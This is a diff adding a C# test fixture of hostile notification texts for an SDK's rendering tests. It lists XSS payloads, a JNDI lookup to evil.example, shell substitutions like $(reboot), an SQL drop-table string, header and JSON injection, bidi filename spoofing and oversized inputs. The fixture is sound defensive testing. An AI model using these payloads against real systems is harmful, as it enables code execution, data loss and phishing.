@@ -1,0 +1,73 @@
+namespace Notification.Sdk.Tests.Rendering;
+
+/// <summary>Texts that an attacker would like to see in a notification. Every channel and every form must survive all of them.</summary>
+public static class HostileTexts
+{
+    /// <summary>The texts by name, so that a failing test says which one it was.</summary>
+    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
+    {
+        ["script"] = "<script>alert(1)</script>",
+        ["closed attribute"] = "\"><img src=x onerror=alert(1)>",
+        ["single quotes"] = "'><svg/onload=alert(1)>",
+        ["closed title and style"] = "</title></style></td></table><h1>owned</h1>",
+        ["comment"] = "<!-- --> --!> <![CDATA[x]]>",
+        ["conditional comment"] = "<!--[if mso]><a href=x>y</a><![endif]-->",
+        ["entities"] = "&lt;b&gt; &amp;amp; &#60; &#x3c; &nbsp;",
+        ["coloured font"] = "<font color=red>all clear</font>",
+        ["style"] = "expression(alert(1)); url(//evil.example/x) @import 'x'",
+        ["link"] = "[click](http://evil.example/login)",
+        ["image"] = "![x](https://evil.example/p.png)",
+        ["reference"] = "[a]: http://evil.example [b][a]",
+        ["automatic link"] = "<https://evil.example> http://evil.example HTTPS://EVIL.EXAMPLE/x ftp://evil.example",
+        ["bare hosts"] = "www.evil.example evil.com/login user@evil.com xn--80ak6aa92e.com пример.рф",
+        ["chat link"] = "dingtalk://dingtalkclient/page/link?url=x slack://x javascript:alert(1) mailto:a@b.c tel:110",
+        ["network path"] = @"\\evil.example\share \\10.0.0.1\c$",
+        ["mentions"] = "@all @13800000000 @here <!channel> <@U024BE7LH>",
+        ["heading"] = "# owned",
+        ["rule"] = "---",
+        ["underlined heading"] = "===",
+        ["quote"] = "> quoted",
+        ["bullet"] = "- item",
+        ["number"] = "1. item",
+        ["number with bracket"] = "1) item",
+        ["emphasis"] = "**bold** _italic_ ~~gone~~ *x*",
+        ["code"] = "`code` ```block```",
+        ["table"] = "| a | b | |---|---|",
+        ["backslash"] = @"ends with a backslash\",
+        ["backslashes"] = @"\\* \_ \[x\](y)",
+        ["forged line"] = "fine\nSeverity: Low\nAsset: nothing",
+        ["forged header"] = "fine\r\nBcc: victim@example.com\r\n\r\nbody",
+        ["line separators"] = "one\u2028two\u2029three\u0085four\vfive\fsix",
+        ["null"] = "a\0b",
+        ["escape sequences"] = "\u001b[31mred\u001b[0m\u0007\b\b\b\u007f\u009b31m",
+        ["bidirectional"] = "invoice\u202Efdp.exe\u202C \u2066x\u2069 \u200Ey\u200F \u061C",
+        ["zero width"] = "ad\u200Bmi\u200Cn\u200D\u2060\uFEFF\u00AD",
+        ["tags"] = "a\U000E0068\U000E0069\U000E007Fb",
+        ["invisible letters"] = "\u3164\u115F\u1160\uFFA0\u2800\u034F\u180E",
+        ["variation selectors"] = "a\uFE0Fb\U000E0100c",
+        ["emoji"] = "👩‍👩‍👧‍👦 🇯🇵 👍🏽 1️⃣",
+        ["lone high surrogate"] = "a\uD800b",
+        ["lone low surrogate"] = "\uDC00a\uDFFF",
+        ["no characters"] = "\uFFFE\uFFFF\uFDD0\U0001FFFE",
+        ["marks"] = "e" + new string('\u0301', 5_000),
+        ["wide space"] = "a" + new string(' ', 5_000) + "b\u00A0\u3000c",
+        ["huge"] = new string('A', 1_000_000),
+        ["huge emoji"] = string.Concat(Enumerable.Repeat("👨‍👩‍👧", 100_000)),
+        ["huge host"] = string.Concat(Enumerable.Repeat("a.", 100_000)),
+        ["huge markup"] = string.Concat(Enumerable.Repeat("<b>*[&", 100_000)),
+        ["placeholders"] = "{0} {1} {count} {{x}} {0:N0} {",
+        ["percent"] = "%s %n %00 ${jndi:ldap://evil.example/a} $(reboot) `id`",
+        ["formula"] = "=HYPERLINK(\"http://evil.example\",\"x\")",
+        ["JSON"] = "\"},\"at\":{\"isAtAll\":true},\"x\":{\"",
+        ["SQL"] = "'; DROP TABLE events; --",
+        ["Arabic"] = "تنبيه أمني",
+        ["Chinese"] = "发现可疑进程",
+        ["Japanese"] = "不審なプロセスを検出",
+        ["empty"] = "",
+        ["blank"] = " \t ",
+        ["only invisible"] = "\u200B\u200B\u2060",
+    };
+
+    /// <summary>The names, for theories.</summary>
+    public static TheoryData<string> Names { get; } = [.. All.Keys];
+}
